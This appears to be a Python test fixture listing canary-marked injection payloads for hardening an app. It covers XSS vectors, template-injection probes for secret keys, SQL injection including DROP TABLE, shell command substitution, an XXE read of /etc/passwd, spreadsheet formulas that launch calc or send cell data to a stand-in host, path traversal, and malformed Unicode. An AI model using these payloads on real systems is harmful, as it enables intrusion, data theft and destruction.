r"""Texts that try to be more than texts, in our own words, and what shows that one succeeded.

Whatever a text smuggles in carries MARK: the name of a variable it sets, of a class, of a host.
"""

MARK = "quorum_pwned"
RUN = f"window.__{MARK}=1"
HOST = f"{MARK.replace('_', '-')}.invalid"

MARKUP = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT>{RUN}</SCRIPT >",
    "a script never closed": f"<script src=//{HOST}/a.js>",
    "a script after its own end": f"</script><script>{RUN}</script>",
    "a script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a picture that fails": f'<img class={MARK} src=x onerror="{RUN}">',
    "a picture from elsewhere": f'<img src="https://{HOST}/seen.png">',
    "a drawing that loads": f'<svg class="{MARK}" onload="{RUN}"><path/></svg>',
    "a drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "a drawing that animates a link": f'<svg><a><set attributeName=href to="{MARK}"/></a></svg>',
    "formulas": f'<math href="javascript:{RUN}">{MARK}</math>',
    "a frame": f'<iframe class={MARK} srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "an object": f'<object data="javascript:{RUN}"></object>',
    "an embedded page": f'<embed src="//{HOST}/page">',
    "a film": f'<video class={MARK}><source onerror="{RUN}"></video>',
    "a field that takes the focus": f'<input class={MARK} autofocus onfocus="{RUN}">',
    "a fold that opens": f'<details class={MARK} open ontoggle="{RUN}">x</details>',
    "a body": f'<body class="{MARK}" onload="{RUN}">',
    "another base": f'<base href="https://{HOST}/">',
    "a page that moves on": f'<meta http-equiv=refresh content="0;url=//{HOST}">',
    "a style sheet": f'<link rel=stylesheet href="//{HOST}/a.css"><style>*{{display:none}}</style>',
    "a form of its own": f'</fieldset></form><form class={MARK} action="//{HOST}"><button>',
    "a template": f"<template><script>{RUN}</script></template>",
    "the end of an attribute": f'" onmouseover="{RUN}" class="{MARK}',
    "the end of an attribute in single quotes": f"' autofocus onfocus='{RUN}' class='{MARK}",
    "an attribute without quotes": f"x onpointerenter={RUN} {MARK}",
    "an attribute between back quotes": f"`onerror={RUN} {MARK}`",
    "the end of a text field": f"</textarea></title></style><script>{RUN}</script>",
    "the end of a list": f"</dd></dl></main><script>{RUN}</script>",
    "the end of a noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a comment never closed": f"<!-- {MARK}",
    "the end of a comment": f"--><script>{RUN}</script>",
    "the end of character data": f"]]><script>{RUN}</script><![CDATA[",
    "a document type": f'<!DOCTYPE x [<!ENTITY {MARK} SYSTEM "file:///etc/passwd">]>&{MARK};',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &{MARK};",
    "an event in a split tag": f"<img\n/src=x\n/onerror\n={RUN}>",
}
ADDRESSES = {
    "a script as an address": f"javascript:{RUN}//",
    "a script as an address with a tab": f"java\tscript:{RUN}",
    "a script as an address with entities": f"&#106;avascript&colon;{RUN}",
    "a page as an address": f"data:text/html,<script>{RUN}</script>",
    "a way out of the folder": f"../../../../etc/{MARK}\\..\\..\\windows",
    "a link in Markdown": f"[click](javascript:{RUN})",
    "a link in Markdown with a title": f"[a](https://example.org \"x' onclick='{RUN}\")",
    "a picture in Markdown": f"![seen](https://{HOST}/seen.png)",
    "an autolink in Markdown": f"<javascript:{RUN}> <data:text/html;base64,{MARK}>",
    "a link by reference in Markdown": f"[a][b]\n\n[b]: javascript:{RUN}",
    "a fence in Markdown": f'```"><script>{RUN}</script>\n{MARK}\n```',
}
LANGUAGES = {
    "a Django template": "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}{% include '/etc/x' %}",
    "a Jinja template": "{{7*7}}{{ cycler.__init__.__globals__ }}{# x #}",
    "a JavaScript template": f"${{{RUN}}} `${{7*7}}`",
    "a format of Python": "{0.__class__} {settings} %(secret)s %s %n %x {!r:>99999999}",
    "SQL": "'; DROP TABLE annotation_judgment; --",
    "SQL in a comparison": "1' OR '1'='1' /* ' UNION SELECT password FROM auth_user */",
    "a wild card of SQL": "%_%__\\%[a-z]",
    "a header": f"x\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{RUN}</script>",
    "a shell": f"$(touch /tmp/{MARK}); `id` | tee /tmp/{MARK} && cat <(id)",
    "a formula of a table": f"=cmd|' /C calc'!A0 {MARK}",
    "a formula with a link": f'=HYPERLINK("https://{HOST}/?x="&A1,"open")',
    "a formula that adds": "+1+cmd @SUM(1+1) -2+3",
    "the end of a JSON text": f'","{MARK}":{{"__proto__":{{"x":1}}}},"y":"\\',
    "a closing tag in JSON": f'</script><script>{RUN}</script>"}}]\u2028\u2029',
    "an expression of a search": "(a+)+$ ^(([a-z])+.)+[A-Z]([a-z])+$ .*?(?{1})",
}
LETTERS = {
    "a NUL": f"before\x00after {MARK}",
    "control characters": "bell\x07 back\x08 escape\x1b[31m delete\x7f \x9b1m",
    "a byte order mark": f"\ufeff{MARK}\ufeff",
    "writing turned around": f"\u202e{MARK}gpj.exe \u2066never closed",
    "letters without width": "in\u200bvis\u200cib\u200dle\u2060 \u00ad\ufe0f \U000e0041\U000e0042",
    "a tower of accents": "Z" + "\u0335\u0321\u0489\u034a" * 60 + " o" + "\u0301" * 200,
    "writing from the right": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123 abc?",
    "a family of families": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "flags cut in half": "\U0001f1e9\U0001f1ea\U0001f1eb \U0001f3f4\U000e0067\U000e0062",
    "letters outside of planes": "\uffff \ufdd0 \U0010fffe \ufffd",
    "full-width markup": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "letters that grow by case": "\ufb03 \u1e9e \u0130 \u0149 \ufdfa" * 40,
    "ends of line": "one\u2028two\u2029three\x85four\x0bfive\rsix",
    "white space of all kinds": "a\u00a0\u1680\u2003\u202f\u3000\t\nb",
}
ATTACKS: dict[str, str] = MARKUP | ADDRESSES | LANGUAGES | LETTERS

LONG = {
    "a word of 100,000 letters": "w" * 100_000,
    "a tag of 100,000 letters": f"<{MARK} " + "a=b " * 25_000 + ">",
    "brackets in brackets": "[" * 50_000 + "]" * 50_000,
}
# No text, yet a file or a form can hold it.
HALF_CHARACTERS = "half \ud83d and half \udc00"
BYTES = {
    "a slash in two bytes": b"\xc0\xaf..\xc0\xaf",
    "a bracket in three bytes": b"\xe0\x80\xbcscript\xe0\x80\xbe",
    "half a character": b"\xed\xa0\x80",
    "a letter cut short": b"caf\xc3",
    "Latin-1": b"caf\xe9",
    "no text at all": bytes(range(1, 256)),
}
